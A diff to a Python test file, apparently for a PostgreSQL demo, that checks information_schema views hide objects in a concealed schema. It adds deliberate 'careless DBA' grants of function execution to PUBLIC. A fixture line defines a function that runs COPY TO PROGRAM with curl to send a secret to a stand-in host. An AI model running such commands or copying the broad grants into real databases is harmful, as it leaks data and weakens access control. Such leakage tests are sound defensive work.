@@ -154,6 +154,8 @@ def planted(demo_cluster: Cluster) -> Iterator[dict[str, str]]:
             f"CREATE FUNCTION {HIDDEN}.exfiltrate() RETURNS void LANGUAGE plpgsql AS $$ BEGIN "
             f"EXECUTE 'COPY (SELECT 1) TO PROGRAM ''curl https://example.invalid/{PROGRAM_SECRET}'''; "
             "END $$",
+            # As a careless DBA: the demo's default privileges keep new functions from PUBLIC.
+            f"GRANT EXECUTE ON FUNCTION {HIDDEN}.exfiltrate() TO PUBLIC",
             f"CREATE VIEW {HIDDEN}.window_on_vault AS SELECT secret FROM {HIDDEN}.vault "
             f"WHERE secret <> '{VIEW_SECRET}'",
             f"ALTER TABLE {HIDDEN}.vault ENABLE ROW LEVEL SECURITY",
@@ -272,6 +274,8 @@ def test_the_information_schema_views_read_as_filtered_show_no_hidden_object(
         admin.execute(
             f"CREATE FUNCTION {HIDDEN}.twice(a integer[]) RETURNS integer LANGUAGE sql AS 'SELECT 2'".encode()
         )
+        # As a careless DBA: the demo's default privileges keep new functions from PUBLIC.
+        admin.execute(f"GRANT EXECUTE ON FUNCTION {HIDDEN}.twice(integer[]) TO PUBLIC".encode())
         views = [
             str(name)
             for (name,) in admin.execute(
